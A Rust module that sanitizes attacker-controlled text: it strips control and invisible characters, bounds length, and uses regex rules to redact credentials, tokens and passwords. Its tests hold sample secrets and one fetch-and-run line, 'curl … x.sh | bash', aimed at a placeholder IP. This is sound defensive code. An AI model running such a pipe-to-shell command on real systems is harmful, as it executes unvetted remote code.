//! Making text from an attacker's hands fit to show: secrets hidden, control characters gone, size bounded.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

/// What stands where a secret stood.
pub const REDACTED: &str = "<redacted>";

/// One line of printable text of at most `max` characters.
///
/// Control characters and line breaks become spaces, and what does not show or turns the reading
/// direction (bidirectional controls, zero-width characters, tags) is dropped, so that a reader sees what
/// a machine would. What is cut off ends in `…`.
pub fn clean(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max.saturating_mul(4)));
    let mut count = 0usize;
    let mut space = true;
    for c in text.chars() {
        let c = match c {
            c if is_invisible(c) => continue,
            c if c.is_control() || c.is_whitespace() => ' ',
            c => c,
        };
        if c == ' ' && space {
            continue;
        }
        space = c == ' ';
        if count >= max {
            out.pop();
            out.push('…');
            break;
        }
        out.push(c);
        count += 1;
    }
    out.truncate(out.trim_end().len());
    out
}

/// Characters that take no room or change the order in which others are shown.
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
        | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// The same text with secrets replaced by `<redacted>`: access keys, tokens, passwords in URLs and in
/// arguments, values of variables with secret names, private keys.
///
/// Better one too many than one too few: what merely looks like a secret goes as well.
pub fn redact(text: &str) -> String {
    let mut out = Cow::Borrowed(text);
    for (hint, pattern, replacement) in PATTERNS.iter() {
        if (hint.is_empty() || hint.iter().any(|hint| contains_ignoring_case(&out, hint)))
            && let Cow::Owned(changed) = pattern.replace_all(&out, *replacement)
        {
            out = Cow::Owned(changed);
        }
    }
    out.into_owned()
}

fn contains_ignoring_case(text: &str, hint: &str) -> bool {
    text.as_bytes().windows(hint.len()).any(|window| window.eq_ignore_ascii_case(hint.as_bytes()))
}

/// A hint that must be there for the pattern to be tried, the pattern, what it leaves.
type Rule = (&'static [&'static str], Regex, &'static str);

static PATTERNS: LazyLock<Vec<Rule>> = LazyLock::new(|| {
    let rules: [(&'static [&'static str], &str, &'static str); 8] = [
        (
            &["-----BEGIN"],
            r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)",
            REDACTED,
        ),
        // AWS key ids, and the formats of well-known services' tokens.
        (
            &["AKIA", "ASIA", "gh", "xox", "glpat-", "eyJ", "sk_live", "npm_", "hooks.slack.com"],
            concat!(
                r"\b(?:AKIA|ASIA)[A-Z0-9]{16}\b|\bgh[pousr]_[A-Za-z0-9]{20,}|\bgithub_pat_\w{20,}",
                r"|\bxox[abprs]-[A-Za-z0-9-]{10,}|\bglpat-[\w-]{16,}|\beyJ[\w-]{8,}\.[\w-]{8,}(?:\.[\w-]*)?",
                r"|\bsk_live_\w{16,}|\bnpm_\w{30,}",
            ),
            REDACTED,
        ),
        (
            &["hooks.slack.com", "webhooks/", "api.telegram.org"],
            r"(?i)(hooks\.slack\.com/services/|/webhooks/|api\.telegram\.org/bot)[^\s'\x22]+",
            "${1}<redacted>",
        ),
        // scheme://user:password@host
        (&["://"], r"(://[^/\s:@'\x22]*):[^/\s@'\x22]+@", "${1}:<redacted>@"),
        (
            &["bearer", "basic ", "x-vault-token", "x-api-key", "private-token", "authorization"],
            r"(?i)\b(bearer\s+|basic\s+|(?:x-vault-token|x-api-key|private-token|authorization)\s*[:=]\s*(?:bearer\s+|basic\s+|token\s+)?)[^\s'\x22]+",
            "${1}<redacted>",
        ),
        // NAME=value, name: value, --name value where the name says what the value is.
        (
            &["pass", "secret", "token", "key", "credential", "pwd", "auth"],
            concat!(
                r"(?i)((?:\b|_|-)(?:[\w.-]*(?:passw(?:or)?d|passwd|pwd|secret|token|api_?key|apikey|access_?key|private_?key|credentials?|auth_?key|passphrase)[\w.-]*))",
                r#"(["']?\s*(?:=|:\s|\s*=>\s*|\s)\s*)("[^"\n]*"|'[^'\n]*'|[^\s'"&;|,)}]+)"#,
            ),
            "${1}${2}<redacted>",
        ),
        // user:password of curl -u, mysql's and others' -p.
        (&["-u", "--user"], r#"(\s(?:-u|--user)[\s=]*['"]?[^\s:'"]+):[^\s'"]+"#, "${1}:<redacted>"),
        (
            &["mysql", "sshpass", "mongo", "psql", "redis-cli", "docker login", "net user"],
            r#"(?i)((?:mysql\w*|sshpass|mongo\w*|redis-cli|docker\s+login)\b[^\n|;]*?\s-(?:p|a)\s?)(?:'[^'\n]*'|"[^"\n]*"|[^\s'"]+)"#,
            "${1}<redacted>",
        ),
    ];
    rules
        .into_iter()
        .filter_map(|(hint, pattern, to)| Regex::new(pattern).ok().map(|regex| (hint, regex, to)))
        .collect()
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATTERNS.len(), 8);
    }

    #[test]
    fn text_is_one_line_without_tricks() {
        assert_eq!(clean("a\tb\r\n\u{1b}[31mc\u{202e}d\u{200b}e", 50), "a b [31mcde");
        assert_eq!(clean("ééééé", 3), "éé…");
        assert_eq!(clean("ééé", 3), "ééé");
        assert_eq!(clean("  \n x  ", 10), "x");
        assert_eq!(clean("abc", 0), "…");
    }

    #[test]
    fn secrets_are_hidden_and_the_rest_stays() {
        for (text, secret, stays) in [
            ("export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", "wJalr", "AWS_SECRET_ACCESS_KEY"),
            ("aws configure set x AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", "aws configure"),
            ("curl -u bob:hunter2 https://x", "hunter2", "https://x"),
            ("git clone https://bob:hunter2@git.example.com/a", "hunter2", "git.example.com/a"),
            ("mysql -uroot -phunter2 db", "hunter2", "mysql -uroot"),
            ("curl -H 'Authorization: Bearer abc.def' https://x", "abc.def", "https://x"),
            ("tool --password 'hun ter2' --next", "hun ter2", "--next"),
            ("DB_PASSWORD: \"hunter2\"", "hunter2", "DB_PASSWORD"),
            ("echo ghp_abcdefghijklmnopqrstuvwxyz0123", "ghp_abc", "echo"),
            ("key='-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----' x", "MIIE", " x"),
            ("curl https://hooks.slack.com/services/T0/B0/xyz", "xyz", "hooks.slack.com"),
        ] {
            let redacted = redact(text);
            assert!(!redacted.contains(secret), "{redacted}");
            assert!(redacted.contains(stays), "{redacted}");
        }
        let harmless = "curl -fsSL http://192.0.2.1/x.sh | bash";
        assert_eq!(redact(harmless), harmless);
    }
}
